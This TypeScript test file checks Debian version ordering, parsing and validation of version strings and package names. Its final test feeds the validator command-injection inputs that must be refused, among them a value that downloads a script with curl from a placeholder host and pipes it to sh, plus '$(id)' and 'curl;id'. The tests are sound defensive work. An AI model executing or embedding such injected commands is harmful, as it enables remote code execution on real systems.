import fc from 'fast-check';
import { fixtureText } from '../../../../test/support/package-indexes.js';
import { compareDebianVersions, isDebianPackageName, isDebianVersion, parseDebianVersion } from './version.js';

describe('Debian version ordering', () => {
  // Pairs in increasing order; most are from dpkg's own tests (lib/dpkg/t/t-version.c) and deb-version(7).
  test.each([
    ['1.0~rc1', '1.0'],
    ['1.0~~', '1.0~'],
    ['1.0~', '1.0'],
    ['1.0', '1.0a'],
    ['1.0a', '1.0+'],
    ['1.0', '1.0.1'],
    ['1.0-1', '1.0-1+b1'],
    ['1.0-1', '1.0-2'],
    ['1.9', '1.10'],
    ['2.0', '1:0.1'],
    ['1:2.39.5-0+deb12u2', '1:2.39.5-0+deb12u3'],
    ['7.88.1-10+deb12u5', '7.88.1-10+deb12u15'],
    ['20230311+deb12u1', '20250419~deb12u2'],
    ['3.0.20-1~deb12u2', '3.0.22-1~deb12u2'],
    ['8.5.0-2ubuntu10', '8.5.0-2ubuntu10.16'],
    ['3.0.13-0ubuntu3', '3.0.13-0ubuntu3.16'],
    ['0.1', '0.1-1'],
    ['a', 'b'],
    ['Z', 'a'],
    ['1.2-3', '1.2-3.1'],
  ])('%s < %s', (lower, higher) => {
    expect(compareDebianVersions(lower, higher)).toBeLessThan(0);
    expect(compareDebianVersions(higher, lower)).toBeGreaterThan(0);
  });

  test.each([
    ['1.0', '1.0'],
    ['0:1.0', '1.0'],
    ['1.0-0', '1.0'],
    ['1.001', '1.1'],
    ['1.0-00', '1.0-0'],
  ])('%s == %s', (a, b) => expect(compareDebianVersions(a, b)).toBe(0));

  test('splits epoch, upstream and revision at the first colon and the last hyphen', () => {
    expect(parseDebianVersion('1:2.39.5-0+deb12u3')).toEqual({ epoch: 1, upstream: '2.39.5', revision: '0+deb12u3' });
    expect(parseDebianVersion('1.2-3-4')).toEqual({ epoch: 0, upstream: '1.2-3', revision: '4' });
    expect(parseDebianVersion('20240203')).toEqual({ epoch: 0, upstream: '20240203', revision: '' });
  });

  test('is a total order: reflexive, antisymmetric and transitive', () => {
    const version = fc
      .tuple(fc.option(fc.integer({ min: 0, max: 3 }), { nil: undefined }), fc.stringMatching(/^[0-9][0-9a-z.+~]{0,6}$/), fc.option(fc.stringMatching(/^[0-9a-z.+~]{1,5}$/), { nil: undefined }))
      .map(([epoch, upstream, revision]) => `${epoch === undefined ? '' : `${epoch}:`}${upstream}${revision === undefined ? '' : `-${revision}`}`);
    fc.assert(
      fc.property(version, version, version, (a, b, c) => {
        expect(compareDebianVersions(a, a)).toBe(0);
        expect(Math.sign(compareDebianVersions(a, b)) + Math.sign(compareDebianVersions(b, a))).toBe(0);
        if (compareDebianVersions(a, b) <= 0 && compareDebianVersions(b, c) <= 0) expect(compareDebianVersions(a, c)).toBeLessThanOrEqual(0);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('Debian version and name grammar (policy §5.6.12, §5.6.1)', () => {
  test('every version of the Packages fixtures is accepted', () => {
    const text = ['debian-bookworm-main-amd64', 'debian-bookworm-security-main-amd64', 'ubuntu-noble-main-amd64', 'ubuntu-noble-universe-amd64'].map((name) => fixtureText(`apt/${name}.Packages`)).join('\n');
    const versions = [...text.matchAll(/^Version: (.*)$/gm)].map((m) => m[1]!);
    const names = [...text.matchAll(/^Package: (.*)$/gm)].map((m) => m[1]!);
    expect(versions.length).toBeGreaterThan(10);
    expect(versions.filter((v) => !isDebianVersion(v))).toEqual([]);
    expect(names.filter((n) => !isDebianPackageName(n))).toEqual([]);
  });

  test('epochs, tildes, pluses and hyphens in the upstream part (with a revision) pass', () => {
    for (const v of ['1:2.39.5-0+deb12u3', '20250419~deb12u2', '1.0-1-1', '3.0.13-0ubuntu3.16', '2.36-9+deb12u14', '0.9']) expect([v, isDebianVersion(v)]).toEqual([v, true]);
  });

  test('a shell command, whitespace, or a malformed version is refused', () => {
    for (const v of ['7.88.1-10 && curl http://x/y | sh', '1.0 ', '1.0\n', 'a:1.0', ':1.0', 'abc', '1.0-', '1.0-$(id)', '1.0:1', '', `1.${'0'.repeat(300)}`]) {
      expect([v, isDebianVersion(v)]).toEqual([v, false]);
    }
    for (const n of ['Curl', 'a', 'curl;id', 'a b', '-x']) expect([n, isDebianPackageName(n)]).toEqual([n, false]);
  });
});
